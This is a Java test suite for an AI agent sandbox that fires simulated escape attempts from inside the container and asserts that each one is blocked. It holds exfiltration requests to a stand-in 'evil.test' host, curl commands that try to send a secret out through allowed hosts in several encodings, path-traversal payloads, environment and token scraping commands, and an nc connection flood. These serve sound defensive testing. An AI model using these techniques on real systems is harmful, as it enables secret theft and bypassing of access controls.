package dev.bottles.docker.escape;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNotEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.bottles.BottleSpec;
import dev.bottles.Bottles;
import dev.bottles.Decision;
import dev.bottles.ExecOptions;
import dev.bottles.ExecResult;
import dev.bottles.RunningBottle;
import dev.bottles.docker.testimages.TestImages;
import dev.bottles.docker.testimages.UpstreamContainer;
import dev.bottles.dockerengine.BundleImages;
import dev.bottles.dockerengine.DockerBundles;
import dev.bottles.dockerengine.DockerEngine;
import dev.bottles.manifest.AgentDefinition;
import dev.bottles.manifest.BottleDefinition;
import dev.bottles.manifest.EgressRoute;
import dev.bottles.manifest.EnvValue;
import dev.bottles.manifest.Manifest;
import dev.bottles.manifest.RouteAuth;
import dev.bottles.sidecars.CertificateAuthority;
import dev.bottles.sidecars.Egress;
import dev.bottles.spi.BottleBackend;
import dev.bottles.spi.Settings;
import java.nio.file.Files;
import java.nio.file.Path;
import java.security.SecureRandom;
import java.time.Clock;
import java.time.Duration;
import java.util.ArrayList;
import java.util.HexFormat;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.concurrent.CompletableFuture;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;

/**
 * The sandbox-escape suite, adapted from the original's PRD 0022: a real bottle with the real
 * bundle, a test upstream on the bundle's outbound network answering as {@code api.allowed.test}
 * (a credential route, paths under {@code /v1/}), {@code www.allowed.test} (allowed, no credential)
 * and {@code evil.test} (never allowed), each over HTTP and HTTPS with a test CA egress trusts
 * through its extra anchors. Every attack runs from inside the agent and must fail, and every test
 * also checks what the upstream saw. A backend runs it by extending this class.
 */
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
public abstract class SandboxEscapeSuite {
    /** The names the upstream answers to. */
    protected static final List<String> NAMES =
            List.of("api.allowed.test", "www.allowed.test", "evil.test", "late.allowed.test", "pinned.allowed.test");

    private final String token = "tok-" + HexFormat.of().formatHex(new SecureRandom().generateSeed(12));
    /** A secret the agent can read (a forwarded variable), which must not leave through any allowed host. */
    private final String leak = "leak-" + HexFormat.of().formatHex(new SecureRandom().generateSeed(12));

    private long idleBundleMemory;
    private Path home;
    private RunningBottle bottle;
    private DockerEngine engine;
    private UpstreamContainer upstream;
    private String upstreamIp;

    /**
     * Returns the backend under test.
     *
     * @return the backend
     */
    protected abstract BottleBackend backend();

    /**
     * Returns the backend's settings for the probing agent image (and anything else it needs).
     *
     * @param agentImage the probing agent image
     * @return the settings
     */
    protected abstract Map<String, String> settings(String agentImage);

    /**
     * Returns the network the bundle dials upstreams from, where the test upstream joins.
     *
     * @param bottle the running bottle
     * @return the network's name
     */
    protected abstract String outboundNetwork(RunningBottle bottle);

    /**
     * Returns the address the agent dials the bundle at.
     *
     * @param bottle the running bottle
     * @return an address as the agent sees it
     */
    protected abstract String bundleAddress(RunningBottle bottle);

    @BeforeAll
    void launch() throws Exception {
        engine = TestImages.engine();
        home = Files.createTempDirectory("bottles-escape-");
        CertificateAuthority ca = CertificateAuthority.mint("escape test CA", Clock.systemUTC());
        Path anchors = home.resolve("test-ca.pem");
        Files.writeString(anchors, ca.certificatePem());
        Manifest m = Manifest.builder()
                .bottle(BottleDefinition.builder("escape")
                        .route(EgressRoute.to("api.allowed.test")
                                .withPaths("/v1/")
                                .withAuth(RouteAuth.bearer("ESCAPE_TOKEN")))
                        .route(EgressRoute.to("www.allowed.test"))
                        .route(EgressRoute.to("pinned.allowed.test").passthrough())
                        .env("LEAKME", EnvValue.parse("${ESCAPE_SECRET}"))
                        .supervise(true)
                        .build())
                .agent(AgentDefinition.builder("escaper").bottle("escape").build())
                .build();
        Map<String, String> settings = new LinkedHashMap<>(settings(TestImages.probeAgent()));
        settings.put(Egress.EXTRA_CA_SETTING, anchors.toString());
        BottleSpec spec = BottleSpec.builder("escaper")
                .manifest(m)
                .home(home)
                .userCwd(home)
                .hostEnvironment(Map.of("ESCAPE_TOKEN", token, "ESCAPE_SECRET", leak))
                .settings(settings)
                .approvals(p -> CompletableFuture.completedFuture(
                        p.route() != null && p.route().host().equals("late.allowed.test")
                                ? Decision.approve()
                                : Decision.reject("only late.allowed.test may be added")))
                .build();
        TestImages.removeAtExitIfNew(
                BundleImages.describe(engine, new Settings(settings, Map.of())).reference());
        bottle = launch(spec);

        upstream = UpstreamContainer.start(
                engine,
                TestImages.upstream(),
                bottle.identity(),
                outboundNetwork(bottle),
                NAMES,
                certsTar(ca),
                "upstream ready");
        upstreamIp = upstream.ip();
        idleBundleMemory = engine.memoryUsage(DockerBundles.bundleContainerName(bottle.identity()));
    }

    /**
     * Launches the bottle under attack; a subclass may launch it another way (from a warm pool).
     *
     * @param spec the bottle's spec
     * @return the running bottle
     */
    protected RunningBottle launch(BottleSpec spec) {
        return Bottles.using(backend()).prepare(spec).launch();
    }

    /** Runs before the suite's own teardown; a subclass removes what its {@link #launch(BottleSpec)} made. */
    protected void afterSuite() {}

    @AfterAll
    void tearDown() {
        if (bottle != null) {
            long busy = engine.memoryUsage(DockerBundles.bundleContainerName(bottle.identity()));
            System.out.printf(
                    "bundle memory: %.1f MiB idle after launch, %.1f MiB after the escape suite%n",
                    idleBundleMemory / 1048576.0, busy / 1048576.0);
        }
        try {
            afterSuite();
        } finally {
            UpstreamContainer.tearDown(upstream, bottle, home);
        }
    }

    private static byte[] certsTar(CertificateAuthority ca) throws Exception {
        return UpstreamContainer.certsTar(ca, NAMES);
    }

    /** What the upstream has served so far, one line each: scheme host method path authorization. */
    private List<String> seen() throws Exception {
        String body = upstream.ask("/seen", false);
        return body.isBlank() ? List.of() : body.lines().toList();
    }

    private List<String> seenSince(int before) throws Exception {
        List<String> all = seen();
        return new ArrayList<>(all.subList(before, all.size()));
    }

    /**
     * Returns the bottle under attack.
     *
     * @return the running bottle
     */
    protected RunningBottle bottle() {
        return bottle;
    }

    /** The agent's user: owner of its home and its 0600 MCP configuration (the probes otherwise run as root). */
    private static final String AGENT_USER = "1000";

    private String probe(String... args) {
        List<String> argv = new ArrayList<>(
                List.of("java", "-XX:+UseSerialGC", "-XX:TieredStopAtLevel=1", "-jar", "/opt/probe.jar"));
        argv.addAll(List.of(args));
        // MCP clients read the agent's 0600 configuration, as Claude Code does: run them as the agent's user
        ExecResult r = bottle.exec(
                argv,
                new ExecOptions(
                        ExecOptions.DEFAULT_TIMEOUT, args[0].equals("mcp") ? AGENT_USER : null, null, Map.of()));
        assertEquals(0, r.exitCode(), () -> "probe " + List.of(args) + " crashed: " + r.stderr());
        return r.stdout();
    }

    private ExecResult sh(String script) {
        return bottle.exec("sh", "-c", script);
    }

    @Test
    void anAllowedHostWithoutCredentialIsReachedAndInspected() throws Exception {
        int before = seen().size();
        String out = probe("get", "https://www.allowed.test/hello", "--insecure");
        assertTrue(out.startsWith("status=200"), out);
        assertEquals(List.of("https www.allowed.test GET /hello -"), seenSince(before));
    }

    @Test
    void aHostNotOnTheAllowlistIsRefusedOverHttpAndConnect() throws Exception {
        int before = seen().size();
        String http = probe("get", "http://evil.test/steal?data=x");
        assertTrue(http.startsWith("status=403\nblocked: host evil.test is not on this bottle's allowlist"), http);
        String https = probe("get", "https://evil.test/steal", "--insecure");
        assertTrue(https.startsWith("get=failed") && https.contains("403"), https);
        assertEquals(List.of(), seenSince(before), "evil.test saw nothing");
    }

    @Test
    void ipLiteralsDomainFrontingAndDirectConnectionsFail() throws Exception {
        int before = seen().size();
        String literal = probe("get", "http://" + upstreamIp + "/");
        assertTrue(literal.startsWith("status=403\nblocked: host " + upstreamIp), literal);
        for (String allowed : List.of("api.allowed.test:443", "www.allowed.test:443")) {
            String front = probe("front", allowed, "evil.test");
            assertTrue(front.contains("connect=HTTP/1.1 200"), front);
            assertTrue(
                    front.contains("handshake=failed"), "SNI evil.test inside a tunnel to " + allowed + ": " + front);
        }
        String direct = probe("tcp", upstreamIp, "443");
        assertTrue(direct.startsWith("tcp=failed"), "the agent has no route to the upstream: " + direct);
        assertEquals(List.of(), seenSince(before));
    }

    @Test
    void aCredentialIsInjectedUpstreamAndNeverReachesTheAgent() throws Exception {
        int before = seen().size();
        String out = probe("get", "https://api.allowed.test/v1/models", "Authorization=Bearer fake");
        assertTrue(out.startsWith("status=200\nupstream ok"), out);
        assertEquals(
                List.of("https api.allowed.test GET /v1/models Bearer_" + token),
                seenSince(before),
                "the upstream got the real token, not the agent's");

        ExecResult env = sh("cat /proc/*/environ 2>/dev/null | tr '\\0' '\\n'; env");
        assertFalse(env.stdout().contains(token), "no process in the agent holds the token");
        assertTrue(env.stdout().contains("HTTPS_PROXY="), "the probe really read the environment");
        ExecResult files = sh("grep -rl '" + token + "' /etc /home /tmp /workspace /root /opt /var /bin 2>/dev/null;"
                + " echo scanned");
        assertEquals("scanned", files.stdout().strip(), "no file in the agent holds the token");

        int mid = seen().size();
        String outside = probe("get", "https://api.allowed.test/admin/keys", "Authorization=Bearer fake");
        assertTrue(outside.startsWith("status=403\nblocked: path /admin/keys on api.allowed.test"), outside);
        assertEquals(List.of(), seenSince(mid), "a path outside path_allowlist never reaches the upstream");
    }

    @Test
    void theAgentCannotResolveNames() throws Exception {
        for (String name : List.of("evil.test", "api.allowed.test")) {
            String out = probe("resolve", name);
            assertTrue(out.startsWith("resolve=failed"), name + ": " + out);
        }
        ExecResult nslookup = sh("nslookup evil.test");
        assertNotEquals(0, nslookup.exitCode(), "busybox's resolver fails too: " + nslookup.stdout());
    }

    @Test
    void anApprovedRouteOpensAHostThroughEgressWithoutARestartAndARejectedOneDoesNot() throws Exception {
        int before = seen().size();
        assertTrue(probe("get", "http://late.allowed.test/early")
                .startsWith("status=403\nblocked: host late.allowed.test"));
        String asked = probe(
                "mcp", "egress-allow", "{\"host\":\"late.allowed.test\",\"justification\":\"fetch the" + " dataset\"}");
        assertTrue(
                asked.startsWith("mcp=200 ") && asked.contains("approved: late.allowed.test is live in egress now"),
                asked);
        String after = probe("get", "http://late.allowed.test/now");
        assertTrue(after.startsWith("status=200\nupstream ok"), "reached without a restart: " + after);
        assertEquals(List.of("http late.allowed.test GET /now -"), seenSince(before));

        String refused = probe("mcp", "egress-allow", "{\"host\":\"evil.test\",\"justification\":\"trust me\"}");
        assertTrue(refused.contains("rejected: only late.allowed.test may be added"), refused);
        assertTrue(probe("get", "http://evil.test/").startsWith("status=403"));

        List<String> audit = Files.readAllLines(home.resolve("audit").resolve("approvals.jsonl"));
        assertEquals(2, audit.size(), audit.toString());
        assertTrue(audit.get(0).contains("\"verdict\":\"approved\"")
                && audit.get(0).contains("late.allowed.test"));
        assertTrue(audit.get(1).contains("\"verdict\":\"rejected\"")
                && audit.get(1).contains("evil.test"));
    }

    @Test
    void localhostAndTheBundlesInternalPortsStayClosed() {
        assertTrue(probe("tcp", "127.0.0.1", "9").startsWith("tcp=failed"));
        assertTrue(
                probe("tcp", bundleAddress(bottle), "8888").startsWith("tcp=failed"),
                "pipelock's port is never reachable from the agent");
    }

    /** Runs stock curl in the agent: the body, then the status on the last line. */
    private String[] curl(String args) {
        ExecResult r = sh("curl -sS --max-time 20 -w '\\n%{http_code}' " + args + " 2>&1");
        String out = r.stdout();
        int nl = out.lastIndexOf('\n');
        return new String[] {out.substring(nl + 1).strip(), nl < 0 ? "" : out.substring(0, nl)};
    }

    @Test
    void stockCurlReachesAllowedHostsThroughEgressWithTheBottlesCredential() throws Exception {
        int before = seen().size();
        String[] http = curl("http://www.allowed.test/plain");
        assertEquals("200", http[0], http[1]);
        String[] inspected = curl("https://www.allowed.test/inspected");
        assertEquals("200", inspected[0], "the agent trusts the egress CA that inspects TLS: " + inspected[1]);
        String[] pinned = curl("-k https://pinned.allowed.test/pinned");
        assertEquals("200", pinned[0], pinned[1]);
        assertEquals(
                List.of(
                        "http www.allowed.test GET /plain -",
                        "https www.allowed.test GET /inspected -",
                        "https pinned.allowed.test GET /pinned -"),
                seenSince(before));
        String[] anonymous = curl("--proxy http://" + bundleAddress(bottle) + ":8080 http://www.allowed.test/anon");
        assertEquals("407", anonymous[0], "without the credential egress refuses: " + anonymous[1]);
        assertEquals(3, seenSince(before).size(), "the refused request never reached the upstream");
    }

    @Test
    void aPathAllowlistCannotBeWalkedAroundWithAnyEncoding() throws Exception {
        int before = seen().size();
        for (String path : List.of(
                "/v1/../admin/keys",
                "/v1/%2e%2e/admin/keys",
                "/v1/%2E%2e/admin/keys",
                "/v1/..%2fadmin/keys",
                "/v1/%2F..%2Fadmin/keys",
                "/v1/;x/../../admin/keys",
                "/v1/..;/admin/keys",
                "/v1/%252e%252e/admin/keys",
                "/v1/%c0%ae%c0%ae/admin/keys",
                "/v1//../../admin/keys",
                "/v1/%5c..%5cadmin/keys")) {
            String[] r = curl("--path-as-is -H 'Authorization: Bearer fake' 'https://api.allowed.test" + path + "'");
            assertEquals("403", r[0], path + ": " + r[1]);
            assertTrue(r[1].startsWith("blocked: "), r[1]);
        }
        assertEquals(List.of(), seenSince(before), "no walk-around reached the upstream, with or without the token");
    }

    @Test
    void theBottlesSecretsCannotLeaveThroughAllowedHosts() throws Exception {
        int before = seen().size();
        Map<String, String> leaks = new LinkedHashMap<>();
        leaks.put("path", "\"$B/x/$LEAKME\"");
        leaks.put("query", "\"$B/x?q=$LEAKME\"");
        leaks.put("header", "-H \"X-Data: $LEAKME\" \"$B/x\"");
        leaks.put("cookie", "-b \"session=$LEAKME\" \"$B/x\"");
        leaks.put("body", "--data-binary \"{\\\"d\\\":\\\"$LEAKME\\\"}\" \"$B/x\"");
        leaks.put("form", "--data-urlencode \"d=$LEAKME\" \"$B/x\"");
        leaks.put("base64 body", "--data-binary \"$(printf %s \"$LEAKME\" | base64)\" \"$B/x\"");
        leaks.put("hex header", "-H \"X-Hex: $(printf %s \"$LEAKME\" | hexdump -ve '1/1 \"%.2x\"')\" \"$B/x\"");
        for (String base :
                List.of("http://www.allowed.test", "https://www.allowed.test", "https://api.allowed.test/v1")) {
            for (Map.Entry<String, String> l : leaks.entrySet()) {
                String[] r = curl(l.getValue().replace("$B", base));
                assertEquals("403", r[0], l.getKey() + " to " + base + ": " + r[1]);
                assertTrue(r[1].contains("contains secret LEAKME"), l.getKey() + " to " + base + ": " + r[1]);
            }
        }
        assertEquals(List.of(), seenSince(before), "nothing carrying the secret reached an upstream");
        assertTrue(sh("echo $LEAKME").stdout().contains(leak), "the agent could read the secret it tried to send");
    }

    @Test
    void superviseAnswersWithinASecondWhileTheAgentFloodsIt() {
        String script = "token=$(sed -n 's/.*\"Bearer \\([^\"]*\\)\".*/\\1/p' /home/node/.claude-bottle/mcp.json);"
                + " u=${MCP_SUPERVISE_URL#http://}; hp=${u%%/*}; h=${hp%:*}; p=${hp#*:};"
                + " for i in $(seq 64); do (printf 'POST /mcp HTTP/1.1\\r\\nHost: x\\r\\nContent-Le'; sleep 20)"
                + " | nc $h $p >/dev/null 2>&1 & done; sleep 1;"
                + " init='{\"jsonrpc\":\"2.0\",\"id\":1,\"method\":\"initialize\",\"params\":{\"protocolVersion\":"
                + "\"2025-06-18\",\"capabilities\":{},\"clientInfo\":{\"name\":\"c\",\"version\":\"1\"}}}';"
                + " for i in 1 2 3; do curl -s -o /dev/null -w '%{http_code} %{time_total}\\n' -H \"Authorization: Bearer"
                + " $token\" -H 'Content-Type: application/json' -H 'Accept: application/json, text/event-stream'"
                + " -d \"$init\" $MCP_SUPERVISE_URL; done;"
                + " curl -s -o /dev/null -w 'anonymous %{http_code}\\n' -H 'Content-Type: application/json' -d \"$init\""
                + " $MCP_SUPERVISE_URL; kill $(jobs -p) 2>/dev/null; true";
        ExecResult r = bottle.exec(
                List.of("sh", "-c", script), new ExecOptions(Duration.ofSeconds(60), AGENT_USER, null, Map.of()));
        List<String> lines = r.stdout().lines().toList();
        assertEquals(4, lines.size(), r.stdout() + r.stderr());
        for (String l : lines.subList(0, 3)) {
            String[] f = l.split(" ");
            assertEquals("200", f[0], l);
            assertTrue(Double.parseDouble(f[1]) < 1.0, "initialize answered in " + f[1] + " s under a flood");
        }
        assertEquals("anonymous 401", lines.get(3));
    }

    @Test
    void theBundleIsLockedDown() {
        DockerEngine.Lockdown b = engine.lockdown(DockerBundles.bundleContainerName(bottle.identity()));
        assertFalse(b.user().isEmpty() || b.user().startsWith("0:") || b.user().equals("root"), "non-root: " + b);
        assertTrue(b.capDrop().contains("ALL"), b.toString());
        assertTrue(b.securityOpts().contains("no-new-privileges"), b.toString());
        assertTrue(b.readOnlyRootfs(), b.toString());
        assertTrue(b.pidsLimit() > 0 && b.memory() > 0, b.toString());
        assertTrue(b.tmpfs().containsKey("/tmp"), b.toString());
    }
}
